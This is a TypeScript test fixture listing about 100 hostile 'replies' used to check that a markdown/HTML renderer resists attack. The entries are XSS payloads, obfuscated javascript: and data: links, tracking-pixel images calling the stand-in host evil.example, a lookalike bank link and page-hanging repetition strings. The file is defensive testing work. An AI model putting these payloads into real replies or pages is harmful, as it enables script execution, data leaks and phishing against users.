@@ -1,0 +1,123 @@
+/**
+ * 100 replies that try to run script, to fetch something, or to hang the page. What runs would set
+ * `window.ran`; what is fetched would ask `evil.example` or an address with `leak` in it.
+ */
+
+const RUN = "window.ran=1";
+
+const html: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<script src="https://evil.example/x.js"></script>`,
+  `<script type=module>${RUN}</script>`,
+  `<SCRIPT/x>${RUN}</SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="https://evil.example/pixel.png">`,
+  `<img/src/onerror=${RUN}>`,
+  `<svg onload="${RUN}"></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
+  `<svg><use href="https://evil.example/x.svg#a"></use></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
+  `<iframe src="https://evil.example/"></iframe>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="https://evil.example/x.swf">`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<link rel=preload as=image href="/leak.png">`,
+  `<style>@import "https://evil.example/x.css"; body{display:none}</style>`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
+  `<form action="https://evil.example/"><button autofocus onfocus="${RUN}">go</button></form>`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<details open ontoggle="${RUN}">x</details>`,
+  `<video autoplay src="https://evil.example/x.mp4" onerror="${RUN}"></video>`,
+  `<audio src=x onerror="${RUN}"></audio>`,
+  `<body onload="${RUN}">`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<a href="javascript:${RUN}" autofocus>x</a>`,
+  `<div style="background:url(https://evil.example/x.png)">x</div>`,
+  `<table background="https://evil.example/x.png"><tr><td>x</table>`,
+  `<template shadowrootmode=open><img src=x onerror="${RUN}"></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<!--><img src=x onerror="${RUN}">-->`,
+  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
+  `<?xml version="1.0"?><img src=x onerror="${RUN}">`,
+  `<xss onpointerenter="${RUN}" style="position:fixed;inset:0">x</xss>`,
+];
+
+const links: readonly string[] = [
+  `[x](javascript:${RUN})`,
+  `[x](JaVaScRiPt:${RUN})`,
+  `[x]( javascript:${RUN})`,
+  `[x](java\tscript:${RUN})`,
+  `[x](<javascript:${RUN}>)`,
+  `[x](&#106;avascript:${RUN})`,
+  `[x](&#x6A;&#x61;vascript&colon;${RUN})`,
+  `[x](javascript&#58;${RUN})`,
+  `[x](\\javascript:${RUN})`,
+  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)`,
+  `[x](data:text/html,<script>${RUN}</script>)`,
+  `[x](vbscript:msgbox)`,
+  `[x](blob:https://evil.example/1)`,
+  `[x](file:///etc/passwd)`,
+  `[x](//evil.example/)`,
+  `[x](/v1/models?leak)`,
+  `[x](?leak)`,
+  `<javascript:${RUN}>`,
+  `[ref]\n\n[ref]: javascript:${RUN}`,
+  `[x](https://evil.example/" onmouseover="${RUN})`,
+  `[x](https://evil.example/ "title\\" onmouseover=\\"${RUN}")`,
+  `[x](https://evil.example/'onclick='${RUN})`,
+  `[bank.example](https://evil.example/)`,
+  `[x](https://bank.example@evil.example/)`,
+  `[<img src=x onerror=${RUN}>](https://a.example/)`,
+  `[x](https://a.example/${"a".repeat(100_000)})`,
+  `[${"long ".repeat(10_000)}](https://a.example/)`,
+  `https://a.example/?a=1&lt;script&gt;&quot;onclick=${RUN}`,
+  `<https://a.example/"onclick=${RUN}>`,
+  `mailto:x@a.example?subject=<script>${RUN}</script>`,
+];
+
+const images: readonly string[] = [
+  "![x](https://evil.example/pixel.png)",
+  '![x](https://evil.example/pixel.png "title")',
+  "![x][i]\n\n[i]: https://evil.example/pixel.png",
+  "![x](/leak.png)",
+  "![x](leak.png)",
+  "![x](data:image/svg+xml,<svg onload=window.ran=1>)",
+  `![x](javascript:${RUN})`,
+  `![" onerror="${RUN}](x)`,
+  "[![x](https://evil.example/pixel.png)](https://evil.example/)",
+  "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
+];
+
+const code: readonly string[] = [
+  "```html\n<script>window.ran=1</script>\n<img src=x onerror=window.ran=1>\n```",
+  '```"><img src=x onerror=window.ran=1>\nx\n```',
+  "```js onload=window.ran=1\nalert(1)\n```",
+  "`<img src=x onerror=window.ran=1>`",
+  `\`\`\`js\n${"let a = `${`${1}`}`;\n".repeat(3_000)}\`\`\``,
+];
+
+const large: readonly string[] = [
+  `${">".repeat(1_000)} deep`,
+  `${"> ".repeat(1_000)}deep`,
+  `${"- ".repeat(1_000)}deep`,
+  Array.from({ length: 300 }, (_, depth) => `${" ".repeat(2 * depth)}- x`).join("\n"),
+  `${"|a".repeat(300)}|\n${"|-".repeat(300)}|\n${`${"|x".repeat(300)}|\n`.repeat(40)}`,
+  `|a|b|\n|-|-|\n${"|<img src=x onerror=window.ran=1>|![](https://evil.example/)|\n".repeat(800)}`,
+  "**a ".repeat(20_000),
+  "_a".repeat(40_000),
+  "[".repeat(50_000),
+  "[a](".repeat(20_000),
+  "`".repeat(50_000),
+  "<".repeat(50_000),
+  `# ${"#".repeat(50_000)}`,
+  "1. x\n".repeat(3_000),
+  `\u202E${"\u0301".repeat(5_000)}\u0000\uFFFF`,
+];
+
+export const HOSTILE_REPLIES: readonly string[] = [...html, ...links, ...images, ...code, ...large];
